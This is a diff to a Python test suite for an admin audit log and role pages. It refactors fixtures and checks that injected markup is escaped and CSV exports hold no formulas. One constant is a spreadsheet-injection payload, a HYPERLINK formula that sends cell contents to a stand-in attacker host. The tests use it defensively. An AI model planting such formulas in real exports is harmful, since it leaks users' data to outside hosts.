@@ -3,6 +3,7 @@
 import csv
 import io
 import re
+import secrets
 from datetime import datetime
 
 import httpx
@@ -25,23 +26,29 @@ from web.admin.audit_log import calm_cell
 FORMULA = '=HYPERLINK("http://evil.example?"&A1)'
 
 
-async def gift(office: Office, reason: str, nonce: str) -> None:
-    change = CreditChange(user_id=office.anna.id, amount=100, reason=reason, nonce=nonce)
+async def gift(office: Office, reason: str) -> None:
+    change = CreditChange(user_id=office.anna.id, amount=100, reason=reason, nonce=secrets.token_hex(6))
     await office.services.user_management.change(change, actor=Actor(office.admin.id, Edge.CHAT))
 
 
-async def test_the_journal_is_filtered(office: Office, at_desk: httpx.AsyncClient) -> None:
-    await gift(office, EVIL, "n1")
+async def test_the_journal_is_filtered(own_office: Office, at_own_desk: httpx.AsyncClient) -> None:
+    await gift(own_office, EVIL)
 
     async def shown(query: str) -> bool:
-        text = (await at_desk.get(f"/admin/audit-log?{query}")).text
+        text = (await at_own_desk.get(f"/admin/audit-log?{query}")).text
         assert EVIL not in text
         return "&lt;img src=x" in text
 
-    for fits in ("", "action=credits.grant", "edge=chat", f"actor={office.admin.id}", f"target={office.anna.id}"):
+    for fits in (
+        "",
+        "action=credits.grant",
+        "edge=chat",
+        f"actor={own_office.admin.id}",
+        f"target={own_office.anna.id}",
+    ):
         assert await shown(fits), fits
     assert await shown("since=2020-01-01&until=2099-01-01&action=nothing&actor=x&page=99")
-    for misses in ("edge=web", f"actor={office.owner.id}", "since=2099-01-01", "action=user.disable"):
+    for misses in ("edge=web", f"actor={own_office.owner.id}", "since=2099-01-01", "action=user.disable"):
         assert not await shown(misses), misses
 
 
@@ -53,8 +60,8 @@ async def test_the_journal_names_what_is_done(office: Office, at_desk: httpx.Asy
 
 
 async def test_the_table_holds_no_formula(office: Office, at_desk: httpx.AsyncClient) -> None:
-    await gift(office, FORMULA, "n1")
-    answer = await at_desk.get("/admin/audit-log.csv?action=credits.grant")
+    await gift(office, FORMULA)
+    answer = await at_desk.get(f"/admin/audit-log.csv?action=credits.grant&target={office.anna.id}")
     assert answer.headers["content-disposition"].startswith("attachment")
     assert answer.headers["x-content-type-options"] == "nosniff"
     (row,) = csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig")))
@@ -87,17 +94,18 @@ async def test_owners_give_roles(office: Office, at_desk: httpx.AsyncClient) -> 
     assert EVIL not in (await at_desk.get("/admin/roles")).text
     async with browser(office.app, office.anna.id) as anna:
         assert (await anna.get("/admin")).status_code == 200
-        question = await at_desk.post("/admin/roles", data={"person": "77", "role": "none"})
+        question = await at_desk.post("/admin/roles", data={"person": str(office.anna.telegram_id), "role": "none"})
         await at_desk.post("/admin/roles", data=hidden_fields(question.text))
         assert (await anna.get("/admin")).status_code == 404
 
 
 @pytest.mark.parametrize(
     ("person", "role"),
-    [("никто", "admin"), ("77", "owner"), ("77", ""), ("900000001", "admin"), ("", "admin"), (f"{EVIL}x", "admin")],
+    [("никто", "admin"), ("anna", "owner"), ("anna", ""), ("900000001", "admin"), ("", "admin"), (f"{EVIL}x", "admin")],
 )
 async def test_roles_that_nobody_gets(office: Office, at_desk: httpx.AsyncClient, person: str, role: str) -> None:
-    answer = await at_desk.post("/admin/roles", data={"person": person, "role": role, "nonce": "0123456789ab"})
+    whom = str(office.anna.telegram_id) if person == "anna" else person
+    answer = await at_desk.post("/admin/roles", data={"person": whom, "role": role, "nonce": "0123456789ab"})
     assert answer.status_code == 422
     assert EVIL not in answer.text
     assert await office.services.admins.role_of(office.anna.id) is None
